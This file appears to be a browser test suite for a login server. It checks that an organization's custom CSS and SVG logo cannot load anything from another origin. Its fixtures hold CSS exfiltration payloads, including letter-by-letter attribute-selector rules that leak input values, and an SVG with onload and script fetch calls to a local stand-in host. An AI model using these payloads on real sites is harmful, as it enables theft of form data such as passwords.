/** Tests the limits of an organization's CSS on its pages, in a browser. */
import { afterAll, beforeAll, describe, expect } from 'bun:test'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Json } from '#test/support/app.ts'
import { closeChromium, openPage, startClient, testInChromium } from '#test/support/chromium.ts'
import { type Running, serveExecutable } from '#test/support/executable.ts'
import { CHALLENGE, PASSWORD } from '#test/support/people.ts'

const site = startClient()
const REDIRECT = `${site.origin}/callback`
let server: Running & AsyncDisposable

/** The requests to a server at another origin. */
const asked: string[] = []
const elsewhere = Bun.serve({
  hostname: '127.0.0.1',
  port: 0,
  fetch: ({ url }) => {
    asked.push(url)
    return new Response('')
  },
})
const there = `http://127.0.0.1:${elsewhere.port}`

const made = async (path: string, body: Json): Promise<Json> => {
  const answer = await server.admin('POST', path, body)
  expect(answer.status).toBe(201)
  return answer.body
}

const LOGO = `data:image/svg+xml;base64,${Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="36" onload="fetch('${there}/onload')">
   <script>fetch('${there}/script')</script><image href="${there}/image" width="9" height="9"/>
   <style>rect { fill: #0a7d6c; background: url(${there}/style) }</style><rect width="90" height="36"/></svg>`,
).toString('base64')}`

/**
 * All constructs by which CSS loads a URL. The last rules have one URL for each first letter of a field's
 * value, so the loaded URL would reveal the letter.
 */
const loading = (origin: string) =>
  `@import url(${origin}/import);
   @font-face { font-family: Spy; src: url(${origin}/font) }
   :root { --accent: rgb(10, 20, 30) }
   body, input { font-family: Spy, sans-serif }
   body { background: url(${origin}/background); cursor: url(${origin}/cursor), auto }
   h1::after { content: url(${origin}/content) }
   h1 { list-style-image: url(${origin}/list); border-image: url(${origin}/border) 1; mask-image: url(${origin}/mask) }
   .card { filter: url(${origin}/filter#f); clip-path: url(${origin}/clip#c); shape-outside: url(${origin}/shape) }
   ${[...'abcdefghijklmnopqrstuvwxyz'].map(letter => `form:has([value^="${letter}" i]) { background: url(${origin}/value-${letter}) }`).join('\n')}`

beforeAll(async () => {
  server = await serveExecutable()
  for (const [slug, custom_css] of [
    ['foreign', loading(there)],
    ['own', loading(`${server.url}/oauth`)],
  ] as const) {
    const { id } = await made('/organizations', { name: slug, slug, settings: { custom_css, logo: LOGO } })
    await made('/clients', {
      client_id: slug,
      name: slug,
      type: 'public',
      organization_id: id,
      grant_types: ['authorization_code'],
      scopes: ['openid'],
      redirect_uris: [REDIRECT],
      consent_required: false,
    })
    await made('/users', {
      username: 'ada',
      email: 'ada@example.com',
      first_name: 'Ada',
      last_name: 'Lovelace',
      password: PASSWORD,
      organization_id: id,
    })
  }
}, 30_000)

afterAll(async () => {
  await closeChromium()
  await server[Symbol.asyncDispose]()
  await site.stop()
  await elsewhere.stop(true)
})

const authorize = (client_id: string) =>
  `${server.url}/oauth/authorize?${new URLSearchParams({
    response_type: 'code',
    client_id,
    redirect_uri: REDIRECT,
    scope: 'openid',
    state: 'xyz',
    login_hint: 'ada',
    code_challenge: CHALLENGE,
    code_challenge_method: 'S256',
  })}`

/** Opens the login page and the account page. Returns the URLs that they loaded, with statuses. */
const walk = async (client_id: string): Promise<{ url: string; status: number }[]> => {
  const { page, close } = await openPage()
  const answers: { url: string; status: number }[] = []
  page.on('response', answer => answers.push({ url: answer.url(), status: answer.status() }))
  await page.goto(authorize(client_id), { waitUntil: 'networkidle' })
  const button = page.getByRole('button', { name: 'Sign in', exact: true })
  expect(await button.evaluate(element => getComputedStyle(element).backgroundColor)).toBe('rgb(10, 20, 30)')
  const logo = page.locator('img.logo')
  expect(await logo.evaluate(image => (image as HTMLImageElement).naturalWidth)).toBe(90)
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
  await page.getByLabel('Password', { exact: true }).press('Enter')
  await page.waitForURL(`${REDIRECT}**`)
  await page.goto(`${server.url}/account/profile`, { waitUntil: 'networkidle' })
  const style = await page.locator('body').evaluate(body => getComputedStyle(body).fontFamily)
  expect(style).toContain('Spy')
  await close()
  return answers
}

describe('an organization’s own CSS', () => {
  testInChromium(
    'O-27 applies to its pages; neither the CSS nor the logo loads anything from another origin',
    async () => {
      const answers = await walk('foreign')
      expect(answers.filter(({ url }) => url.startsWith(there))).toEqual([])
      expect(asked).toEqual([])
    },
  )

  testInChromium('has no effect by its requests to our own origin', async () => {
    const answers = await walk('own')
    const parts = answers.filter(({ url }) => /\/oauth\/(import|font|background|value-)/.test(url))
    expect(parts.length).toBeGreaterThan(3)
    expect(parts.filter(({ status }) => status !== 404)).toEqual([])
    expect(asked).toEqual([])
  })

  testInChromium('is laid over a theme of the data directory, which has its pictures beside it', async () => {
    const folder = join(server.data_dir, 'themes/lagoon')
    await mkdir(folder, { recursive: true })
    await writeFile(
      join(folder, 'wave.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>',
    )
    const theme = `:root { --accent: rgb(1, 2, 3); --radius: 3px } .card { background-image: url("lagoon/wave.svg") }`
    await writeFile(`${folder}.css`, theme)
    await server.admin('PUT', '/organizations/own', { settings: { theme: 'lagoon' } })
    const { page, close } = await openPage()
    const picture = page.waitForResponse(`${server.url}/assets/themes/lagoon/wave.svg`)
    await page.goto(authorize('own'))
    expect((await picture).status()).toBe(200)
    const styles = await page.locator('.primary').evaluate(button => {
      const { backgroundColor, borderRadius } = getComputedStyle(button)
      return [backgroundColor, borderRadius]
    })
    expect(styles).toEqual(['rgb(10, 20, 30)', '3px'])
    await close()
  })

  testInChromium('a logo that is opened as a page runs no script and loads nothing', async () => {
    const { body } = await server.admin('GET', '/organizations/foreign')
    const { page, close } = await openPage()
    await page.goto(server.url + body.settings.logo, { waitUntil: 'networkidle' })
    expect(await page.locator('rect').evaluate(rect => getComputedStyle(rect).fill)).toBe('rgb(10, 125, 108)')
    await close()
    expect(asked).toEqual([])
  })
})
